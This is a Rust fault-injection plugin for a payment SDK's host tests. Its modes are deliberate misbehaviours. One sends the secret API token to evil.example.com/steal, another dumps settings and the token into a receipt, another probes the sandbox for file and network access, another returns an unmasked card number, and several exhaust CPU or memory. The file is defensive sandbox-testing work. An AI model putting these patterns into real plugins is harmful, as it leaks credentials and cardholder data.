//! A plugin that misbehaves on demand (in the spirit of Kill Bill's payment test
//! plugin). The `mode` setting picks the failure; `well` behaves. Host tests use
//! it to show that every failure is contained and named.

use std::time::Duration;

use vetpay_sdk::prelude::*;

struct Faults;

fn mode(ctx: &Context) -> &str {
    ctx.setting("mode").unwrap_or("well")
}

fn target(ctx: &Context) -> Result<&str, PluginError> {
    ctx.require("target-url")
}

fn approve(amount: Money, reference: &str, receipt: Option<String>) -> Outcome {
    Outcome::Approved(Approval {
        provider_reference: format!("fault-{reference}"),
        amount,
        authorization_code: Some("A1B2C3".into()),
        card: Some(CardDetails {
            masked_pan: "************4242".into(),
            brand: Some("visa".into()),
            expiry: Some("1229".into()),
            entry_method: Some("chip".into()),
        }),
        card_token: Some(format!("tok-{reference}")),
        receipt: Some(Receipt {
            customer: receipt,
            merchant: None,
        }),
    })
}

/// Runs the misbehaviour of `mode`, or answers well with `amount`.
fn misbehave(ctx: &Context, request_id: &str, amount: Money) -> Result<Outcome, PluginError> {
    progress::report(Stage::Connecting, None);
    match mode(ctx) {
        "well" => {
            println!("fault-injection: well-behaved call {request_id}");
            log::info(format!("approving {request_id}"));
            Ok(approve(amount, request_id, Some("APPROVED".into())))
        }
        "trap" => panic!("fault-injection: trap requested for {request_id}"),
        "loop" => {
            let mut n: u64 = 0;
            loop {
                n = std::hint::black_box(n.wrapping_add(1));
            }
        }
        "grow-memory" => {
            let mut hoard: Vec<Vec<u8>> = Vec::new();
            loop {
                hoard.push(vec![1u8; 1 << 20]);
                std::hint::black_box(&hoard);
            }
        }
        "huge-body" => {
            http::Request::get(format!("{}/huge", target(ctx)?)).send()?;
            Ok(Outcome::Unknown("the huge body was accepted".into()))
        }
        "forbidden-host" => {
            let url = format!(
                "https://evil.example.com/steal?t={}",
                ctx.secret("api-token")
            );
            http::Request::get(url).send()?;
            Ok(Outcome::Unknown("the forbidden host was reached".into()))
        }
        "redirect" => {
            http::Request::get(format!("{}/redirect-away", target(ctx)?)).send()?;
            Ok(Outcome::Unknown("the redirect was followed".into()))
        }
        "http-get" => {
            let r = http::Request::get(format!("{}/echo", target(ctx)?))
                .timeout(Duration::from_millis(300))
                .send()?;
            Ok(approve(amount, request_id, Some(r.text())))
        }
        "wrong-amount" => {
            let lie = Money::new(amount.minor_units + 100, &amount.currency);
            Ok(approve(lie, request_id, None))
        }
        "full-pan" => {
            let mut out = approve(amount, request_id, None);
            if let Outcome::Approved(Approval { card: Some(c), .. }) = &mut out {
                c.masked_pan = "4242424242424242".into();
            }
            Ok(out)
        }
        "sleep" => {
            vetpay_sdk::sleep(Duration::from_secs(3600));
            Ok(approve(amount, request_id, None))
        }
        "wasi-sleep" => {
            std::thread::sleep(Duration::from_secs(3600));
            Ok(approve(amount, request_id, None))
        }
        "slow-ok" => {
            vetpay_sdk::sleep(Duration::from_millis(300));
            Ok(approve(amount, request_id, None))
        }
        "exfiltrate" => {
            // Everything the plugin can learn about the secret goes into the receipt.
            let seen: Vec<String> = ctx
                .raw()
                .organisation_settings
                .iter()
                .map(|s| format!("{}={}", s.key, s.value))
                .collect();
            let token = ctx.secret("api-token");
            let echoed = http::Request::post(format!("{}/echo", target(ctx)?))
                .bearer(&token)
                .json(&serde_json::json!({ "token": token }))
                .send()?;
            let receipt = format!("settings: {}\necho: {}", seen.join(", "), echoed.text());
            Ok(approve(amount, request_id, Some(receipt)))
        }
        "huge-output" => {
            // An answer far larger than any receipt: 20 MiB.
            let receipt = "x".repeat(20 << 20);
            Ok(approve(amount, request_id, Some(receipt)))
        }
        "log-flood" => {
            for i in 0..5000 {
                log::info(format!("flood {i}"));
                progress::report(Stage::Processing, Some("flooding"));
            }
            Ok(approve(amount, request_id, None))
        }
        "probe-sandbox" => {
            // Everything WASI could offer beyond clocks, random and stdio.
            let file = match std::fs::read_to_string("/etc/hostname") {
                Ok(_) => "read".to_owned(),
                Err(e) => format!("denied ({e})"),
            };
            let listing = match std::fs::read_dir("/") {
                Ok(_) => "listed".to_owned(),
                Err(e) => format!("denied ({e})"),
            };
            let address = target(ctx)?.trim_start_matches("http://").to_owned();
            let tcp = match std::net::TcpStream::connect(&address) {
                Ok(_) => format!("connected to {address}"),
                Err(e) => format!("denied ({e})"),
            };
            let receipt = format!(
                "file={file}\nlisting={listing}\nenv={}\nargs={}\ntcp={tcp}",
                std::env::vars().count(),
                std::env::args().count(),
            );
            Ok(approve(amount, request_id, Some(receipt)))
        }
        "wait-for-abort" => {
            progress::report(Stage::WaitingForCard, Some("present card"));
            let key = format!("abort:{request_id}");
            loop {
                if cache::get(&key).is_some() {
                    return Ok(Outcome::AbortedByClinic(Stopped {
                        message: "aborted by the clinic".into(),
                        provider_reference: None,
                    }));
                }
                vetpay_sdk::sleep(Duration::from_millis(10));
            }
        }
        other => Err(PluginError::configuration(
            "mode",
            format!("unknown mode '{other}'"),
        )),
    }
}

impl Plugin for Faults {
    fn process(ctx: &Context, request: PaymentRequest) -> Result<Outcome, PluginError> {
        misbehave(ctx, &request.request_id, request.amount)
    }

    fn abort(_ctx: &Context, request: AbortRequest) -> Result<(), PluginError> {
        cache::set(
            &format!("abort:{}", request.request_id),
            b"1",
            Duration::from_secs(60),
        );
        Ok(())
    }

    fn status(ctx: &Context, query: StatusQuery) -> Result<Outcome, PluginError> {
        misbehave(ctx, &query.request_id, query.amount)
    }

    fn charge_token(ctx: &Context, request: TokenCharge) -> Result<Outcome, PluginError> {
        misbehave(ctx, &request.request_id, request.amount)
    }

    fn refund_token(ctx: &Context, request: TokenRefund) -> Result<Outcome, PluginError> {
        misbehave(ctx, &request.request_id, request.amount)
    }

    fn save_card(ctx: &Context, request: SaveCardRequest) -> Result<Outcome, PluginError> {
        misbehave(ctx, &request.request_id, Money::new(0, &request.currency))
    }

    fn list_terminals(ctx: &Context) -> Result<Vec<TerminalInfo>, PluginError> {
        if mode(ctx) != "well" {
            misbehave(ctx, "list", Money::new(1, "USD"))?;
        }
        Ok(vec![TerminalInfo {
            id: "T-1".into(),
            model: Some("Virtual".into()),
            name: Some("Counter".into()),
            supported: true,
            note: None,
        }])
    }

    fn reconcile(_ctx: &Context, terminal_id: String) -> Result<Reconciliation, PluginError> {
        Ok(Reconciliation {
            reference: Some(format!("eod-{terminal_id}")),
            report: format!("End of day for {terminal_id}: 0 transactions"),
            totals: Some(Vec::new()),
            transactions: Some(Vec::new()),
        })
    }
}

vetpay_sdk::export_plugin!(Faults);
